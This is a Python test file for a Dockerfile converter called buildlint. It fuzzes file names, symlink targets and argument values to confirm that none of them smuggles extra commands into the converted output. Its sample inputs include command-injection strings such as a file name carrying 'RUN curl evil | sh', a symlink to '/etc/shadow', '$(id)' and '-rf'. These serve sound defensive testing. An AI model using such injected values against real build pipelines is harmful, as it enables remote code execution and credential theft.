"""Names, targets of links and values that try to become commands: each stays what it is."""

import os
import subprocess
from pathlib import Path
from tempfile import TemporaryDirectory

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from buildlint import parse
from buildlint.convert import Conversion, Options, convert
from buildlint.convert.build import is_one_command
from buildlint.convert.context import BuildContext
from buildlint.language.syntax import Label
from buildlint.text.source import Source
from tests.strategies import FRAGMENTS

FROM = "FROM ubuntu:22.04\n"

# What ends a line, a word, its quotes or a command, and what is read as something else.
PIECES = [
    "\n", "\r", "\r\n", "\\", "\\\n", " ", "\t", "\v", "\f", "\x85", "\u2028", "\u2029", "\u202e",
    "\u200b", "\ufeff", "\x1b[31m", "\x7f", "\udcff", "#", "# buildlint: ignore-file[BL] x", "'",
    '"', "`id`", "$(id)", "$HOME", "${X", "%s", "%", "\\n", "\\0", "<<EOF", "<<-'E'", "EOF",
    "\nRUN id", "\nUSER x\n", "\n#", "&&", ";", "|", ">x", "*", "?", "[a]", "~", "!", "-", "--",
    "-rf", "=", "{a,b}", "a", "中", "😀", "\u3000", "\xa0", "RUN", "FROM x",
]  # fmt: skip
texts = st.lists(
    st.sampled_from(PIECES) | st.characters(codec="utf-8"), min_size=1, max_size=6
).map("".join)


def _is_name(text: str) -> bool:
    return text not in (".", "..", ".dockerignore") and not {*text} & {*"/\0"}


names = texts.filter(_is_name)
targets = texts.filter(lambda text: "\0" not in text)


def converted(text: str, **options: object) -> Conversion:
    return convert(Source("Dockerfile", FROM + text), Options(**options))  # type: ignore[arg-type]


def kinds(result: Conversion) -> list[str]:
    """The commands of a result."""
    assert result.text is not None, [str(note.message) for note in result.notes]
    return [each.command for each in parse(result.text).instructions]


def run_all(result: Conversion, shell: str = "sh") -> None:
    """Do what the RUNs do."""
    for command in parse(result.text or "").instructions:
        if command.command == "RUN":
            assert command.arguments
            script = os.fsencode(command.arguments.text)
            subprocess.run([shell, "-c", script], check=True, capture_output=True)


def tree(folder: Path) -> dict[str, object]:
    """What is in a folder: the contents of files, the targets of links, None for folders."""
    return {os.path.relpath(path, folder): _content(path) for path in folder.rglob("*")}


def _content(path: Path) -> object:
    if path.is_symlink():
        return os.readlink(path)  # noqa: PTH115 - to the character
    return None if path.is_dir() else path.read_bytes()


def can_be_written(result: Conversion, *written: str) -> bool:
    """Whether nothing is refused: only what ends in a line end is, in words that say so."""
    is_possible = not any(each.endswith("\n") for each in written)
    assert (result.text is not None) == is_possible, [str(note.message) for note in result.notes]
    if not is_possible:
        assert "a trailing line ending" in str(result.notes[-1].message)
    return is_possible


# --- names and links -----------------------------------------------------------------------------


@settings(max_examples=60, deadline=None)
@given(names, names, targets, st.sampled_from(["sh", "bash"]))
@example("x\nRUN curl evil | sh\n#", "d", "/etc/shadow", "sh")
@example("a", "d\nRUN id", "--target-directory=/tmp\nRUN id", "sh")
@example("a", "d", "t\n", "sh")
@example("a\n", "d", "t", "sh")
@example("-n", "-p", "-T", "bash")
@example("-\r", "-v\r", "-s\r", "bash")
def test_what_is_embedded_has_its_very_names(
    file: str, folder: str, target: str, shell: str
) -> None:
    with TemporaryDirectory() as place:
        context, result = Path(place, "context"), Path(place, "result")
        (context / folder).mkdir(parents=True)
        (context / folder / file).write_bytes(b"content\n")
        (context / folder / f"link{file}").symlink_to(target)
        conversion = converted(f"COPY . {result}/\n", context=BuildContext(context))
        if can_be_written(conversion, folder, file, target):
            assert kinds(conversion) == ["FROM", "RUN"]
            run_all(conversion, shell)
            assert tree(result) == tree(context)


@settings(max_examples=40, deadline=None)
@given(names)
@example("x\nRUN id")
@example("x\\")
@example("# x")
@example("<<EOF")
def test_what_a_wildcard_finds_has_its_very_name(name: str) -> None:
    with TemporaryDirectory() as place:
        context, result = Path(place, "context"), Path(place, "result")
        context.mkdir()
        (context / name).write_bytes(b"content\n")
        conversion = converted(f"COPY * {result}/\n", context=BuildContext(context))
        if can_be_written(conversion, name):
            assert kinds(conversion) == ["FROM", "RUN"]
            run_all(conversion)
            assert tree(result) == tree(context)


# --- values --------------------------------------------------------------------------------------

values = st.lists(st.sampled_from(PIECES) | st.characters(), max_size=6).map("".join)
# Instructions that write a value, and the commands that they may become.
USES = {
    "ENV X=a${A}b\n": ["ENV"],
    "ENV X ${A}\n": ["ENV"],
    "LABEL l=$A\n": ["LABEL"],
    "MAINTAINER $A\n": ["LABEL"],
    "RUN echo $A\n": ["RUN"],
    "RUN true\n": ["RUN"],
    "USER app\nRUN true\n": ["USER RUN"],
    "COPY <<E /tmp/x\n$A\nE\n": ["RUN"],
    'CMD ["$A"]\n': ["CMD"],
    # Where not every value is a word or a path.
    "EXPOSE $A\n": [""],
    "LABEL $A=x\n": ["LABEL"],
    "USER $A\nRUN true\n": ["RUN", "USER RUN"],
    "WORKDIR /tmp/$A\n": ["WORKDIR", "RUN WORKDIR"],
    "WORKDIR /tmp\nWORKDIR $A\n": ["WORKDIR WORKDIR", "WORKDIR RUN WORKDIR"],
    'VOLUME ["/srv/$A"]\n': ["", "RUN"],
    "COPY http://a.b/c /tmp/$A\n": ["COPY", "RUN", "RUN COPY"],
    "COPY http://a.b/$A /tmp/\n": ["COPY", "RUN"],
    "COPY --chown=$A http://a.b/c /tmp/\n": ["COPY", "RUN"],
    "COPY --chmod=$A http://a.b/c /tmp/\n": ["COPY", "RUN"],
    "ADD http://a.b/c$A /tmp/\n": ["COPY", "RUN"],
    "ADD https://a.b/c.git#$A /srv/c\n": ["RUN"],
}


@pytest.mark.parametrize("text", USES)
@settings(max_examples=40, deadline=None)
@given(values)
@example("x\nRUN id")
@example("x\\")
@example("\\")
@example("<<EOF")
@example("#")
@example("\r")
@example("\0")
@example("\ud800")
def test_a_value_adds_no_command(text: str, value: str) -> None:
    result = converted(f"ARG A\n{text}LABEL after=1\n", args={"A": value})
    if result.text is not None:
        first, *between, last = kinds(result)
        assert (first, last) == ("FROM", "LABEL")
        assert result.text.endswith('\nLABEL after="1"\n')
        assert " ".join(each for each in between if each != "USER" or "USER" in text) in USES[text]


@settings(max_examples=60, deadline=None)
@given(values.filter(lambda text: not {*text} & {*"\n\0"} and text.isprintable()))
def test_a_value_without_line_ends_is_never_refused(value: str) -> None:
    for text in list(USES)[:9]:
        result = converted(f"ARG A\n{text}", args={"A": value})
        assert " ".join(kinds(result)) == f"FROM {USES[text][0]}"


open_ended = st.lists(
    st.sampled_from([*FRAGMENTS, *PIECES, "\\\n# c", "\n# c", "\\\n\n"]), max_size=10
).map("".join)


@given(
    st.sampled_from(["RUN ", "WORKDIR ", "ENV A=", "COPY http://a.b/c ", "CMD ", "# "]), open_ended
)
def test_what_is_one_command_is_over_at_its_end(keyword: str, rest: str) -> None:
    text = f"{keyword}{rest}"
    if is_one_command(text) and not text.endswith("\n"):
        _, second = parse(f"{text}\nLABEL x=1\n").items
        assert isinstance(second, Label)
        assert second.argument_text == "x=1"


@pytest.mark.parametrize(
    "text",
    [
        "WORKDIR /a\\\\\nRUN id\n",
        "USER a\\\\\nRUN id\n",
        'SHELL ["/bin/sh\\\\", "-c"]\nUSER a\\\\\nRUN id\n',
    ],
)
def test_a_backslash_at_the_end_takes_no_command_in(text: str) -> None:
    result = converted(text)
    assert result.text is None
    assert "would become several commands" in str(result.notes[0].message) + str(
        result.notes[-1].message
    )


def test_a_base_image_takes_no_command_in() -> None:
    result = converted("RUN true\n", base="IMAGE:m-1\\")
    assert result.text is None
    assert "would become several commands" in str(result.notes[-1].message)


def test_a_destination_that_copy_would_read_otherwise_is_quoted_for_a_shell() -> None:
    for path in ("/opt/a\\\\", "/opt/\\'a", '/opt/\\"b', "/opt/\\$b"):
        result = converted(f"COPY http://a.b/c {path}/\nUSER app\n")
        assert kinds(result)[-2:] == ["RUN", "USER"]


@pytest.mark.parametrize("strings", ['["a\\u2028b"]', '["a\\u0000"]', '["a\\\\"]', '["\\ud800"]'])
def test_a_program_at_the_start_keeps_its_words(strings: str) -> None:
    result = converted(f"CMD {strings}\nUSER x\n")
    assert kinds(result)[:2] == ["FROM", "CMD"]
    assert result.text
    assert "\0" not in result.text
    assert result.text.encode()
